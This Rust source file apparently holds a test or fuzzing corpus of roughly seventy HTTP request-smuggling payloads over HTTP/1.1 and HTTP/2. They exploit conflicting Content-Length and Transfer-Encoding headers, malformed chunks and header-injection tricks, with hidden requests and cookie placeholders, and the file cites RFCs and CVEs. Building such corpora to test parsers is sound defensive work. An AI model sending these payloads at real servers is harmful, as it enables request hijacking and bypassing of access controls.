//! The corpus. Sources: RFC 9112, sections 6 and 11; RFC 9113, section 8.2; CVE-2019-18277, CVE-2020-11724,
//! CVE-2021-33193, CVE-2021-40346, CVE-2022-26377, CVE-2023-25690, CVE-2024-9666; the classes CL.TE, TE.CL, TE.TE, CL.0, TE.0 and
//! H2.CL, H2.TE, H2.0 of the literature on request smuggling.

/// A request of each kind over HTTP/1.1. `{smuggled}` is the path of the hidden request.
pub const HTTP_1: [(&str, &str); 50] = [
    (
        "CL.TE",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 44\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE.CL",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n32\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n\r\n0\r\n\r\n",
    ),
    (
        "CL.CL, different",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 0\r\ncontent-length: 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "CL.CL, equal",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 5\r\ncontent-length: 5\r\n\r\nhello",
    ),
    (
        "CL list",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 5, 5\r\n\r\nhello",
    ),
    (
        "CL list, different",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 0, 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "CL with a sign",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: +5\r\n\r\nhello",
    ),
    (
        "CL with a minus",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: -1\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "CL in hexadecimal",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 0x5\r\n\r\nhello",
    ),
    (
        "CL with spaces inside",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 5 0\r\n\r\nhello",
    ),
    (
        "CL with a leading zero",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 005\r\n\r\nhello",
    ),
    (
        "CL too large for 64 bits",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 18446744073709551621\r\n\r\nhello",
    ),
    (
        "CL empty",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length:\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "CL with a form feed",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: \u{c}5\r\n\r\nhello",
    ),
    (
        "space before the colon of CL",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length : 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "CL with an underscore",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent_length: 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "CL.0: a GET with a body",
        "GET /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "a HEAD with a body",
        "HEAD /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ncontent-length: 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE with a capital",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: Chunked\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE with a prefix",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: xchunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE twice",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE list, chunked first",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked, identity\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE list, chunked twice",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "TE gzip",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: gzip\r\ncontent-length: 5\r\n\r\nhello",
    ),
    (
        "TE gzip, chunked",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "TE identity",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: identity\r\ncontent-length: 5\r\n\r\nhello",
    ),
    (
        "TE with a vertical tab",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: \u{b}chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE with a tab",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding:\tchunked\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE in quotes",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: \"chunked\"\r\ncontent-length: 5\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE with a space before the colon",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding : chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE on a folded line",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\nx: y\r\n transfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE after a bare LF",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\nx: y\ntransfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE after a bare CR",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\nx: y\rtransfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE in HTTP/1.0",
        "POST /a HTTP/1.0\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\nconnection: keep-alive\r\n\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "TE that Connection lists",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\nconnection: transfer-encoding\r\ntransfer-encoding: chunked\r\n\r\n32\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n\r\n0\r\n\r\n",
    ),
    (
        "CL that Connection lists",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\nconnection: content-length\r\ncontent-length: 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "chunk with an extension",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\n\r\n",
    ),
    (
        "chunk extension with a bare LF",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n5;\nhello\r\n0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "chunk size with a bare LF",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n5\nhello\n0\n\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "chunk size with 0x",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n",
    ),
    (
        "chunk size with a sign",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n+5\r\nhello\r\n0\r\n\r\n",
    ),
    (
        "chunk size too large",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n10000000000000005\r\nhello\r\n0\r\n\r\n",
    ),
    (
        "chunk size with a space",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n5 \r\nhello\r\n0\r\n\r\n",
    ),
    (
        "chunk without its CRLF",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\n\r\n5\r\nhello0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "trailers with a length and an encoding",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\ntransfer-encoding: chunked\r\ntrailer: content-length, transfer-encoding, host\r\n\r\n5\r\nhello\r\n0\r\ncontent-length: 50\r\ntransfer-encoding: chunked\r\nhost: other.example.com\r\n\r\n",
    ),
    (
        "two hosts",
        "GET /a HTTP/1.1\r\nhost: app.example.com\r\nhost: other.example.com\r\ncookie: {cookie}\r\n\r\n",
    ),
    (
        "an absolute target and another host",
        "GET http://app.example.com/a HTTP/1.1\r\nhost: other.example.com\r\ncookie: {cookie}\r\n\r\n",
    ),
    (
        "a target with a space",
        "GET /a HTTP/1.1 {smuggled} HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\n\r\n",
    ),
    (
        "a NUL in a value",
        "GET /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\nx: a\0b\r\n\r\n",
    ),
    (
        "an expectation without a body",
        "POST /a HTTP/1.1\r\nhost: app.example.com\r\ncookie: {cookie}\r\nexpect: 100-continue\r\ncontent-length: 50\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
];

/// The headers and the body of a request over HTTP/2.
type Http2Request = (
    &'static str,
    &'static [(&'static str, &'static str)],
    &'static str,
);

const HIDDEN: &str = "GET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n";

/// Begins a list of headers with those of a valid request.
macro_rules! headers {
    ($($header:expr),*) => {
        &[
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", "app.example.com"),
            (":path", "/a"),
            ("cookie", "{cookie}"),
            $($header),*
        ]
    };
}

/// A request of each kind over HTTP/2.
pub const HTTP_2: [Http2Request; 22] = [
    ("H2.CL, shorter", headers!(("content-length", "0")), HIDDEN),
    ("H2.CL, longer", headers!(("content-length", "500")), HIDDEN),
    (
        "H2.CL twice",
        headers!(("content-length", "50"), ("content-length", "0")),
        HIDDEN,
    ),
    (
        "H2.CL with a sign",
        headers!(("content-length", "+50")),
        HIDDEN,
    ),
    (
        "H2.TE",
        headers!(("transfer-encoding", "chunked")),
        "0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: app.example.com\r\n\r\n",
    ),
    (
        "H2.TE with a capital",
        headers!(("Transfer-Encoding", "chunked")),
        "0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: a\r\n\r\n",
    ),
    (
        "connection",
        headers!(("connection", "transfer-encoding")),
        HIDDEN,
    ),
    ("te", headers!(("te", "chunked")), HIDDEN),
    ("upgrade", headers!(("upgrade", "h2c")), HIDDEN),
    (
        "CRLF in a value",
        headers!(("x", "a\r\ntransfer-encoding: chunked")),
        "0\r\n\r\nGET {smuggled} HTTP/1.1\r\nhost: a\r\n\r\n",
    ),
    (
        "LF in a value",
        headers!(("x", "a\ntransfer-encoding: chunked")),
        HIDDEN,
    ),
    ("CR in a value", headers!(("x", "a\rb: c")), HIDDEN),
    ("NUL in a value", headers!(("x", "a\0b")), HIDDEN),
    (
        "a colon in a name",
        headers!(("transfer-encoding: chunked\r\nx", "y")),
        HIDDEN,
    ),
    (
        "a space in a name",
        headers!(("transfer-encoding ", "chunked")),
        HIDDEN,
    ),
    ("an empty name", headers!(("", "chunked")), HIDDEN),
    (
        "a host that differs",
        headers!(("host", "other.example.com")),
        "",
    ),
    (
        "a path with a second request",
        &[
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", "app.example.com"),
            (
                ":path",
                "/a HTTP/1.1\r\nhost: app.example.com\r\n\r\nGET {smuggled}",
            ),
            ("cookie", "{cookie}"),
        ],
        "",
    ),
    (
        "a method with a second request",
        &[
            (":method", "GET {smuggled} HTTP/1.1\r\nhost: a\r\n\r\nGET"),
            (":scheme", "http"),
            (":authority", "app.example.com"),
            (":path", "/a"),
            ("cookie", "{cookie}"),
        ],
        "",
    ),
    (
        "a scheme with a path",
        &[
            (":method", "GET"),
            (":scheme", "http://app.example.com{smuggled}?"),
            (":authority", "app.example.com"),
            (":path", "/a"),
            ("cookie", "{cookie}"),
        ],
        "",
    ),
    (
        "two paths",
        &[
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", "app.example.com"),
            (":path", "/a"),
            (":path", "{smuggled}"),
            ("cookie", "{cookie}"),
        ],
        "",
    ),
    (
        "a pseudo-header after the others",
        &[
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", "app.example.com"),
            ("cookie", "{cookie}"),
            (":path", "{smuggled}"),
        ],
        "",
    ),
];
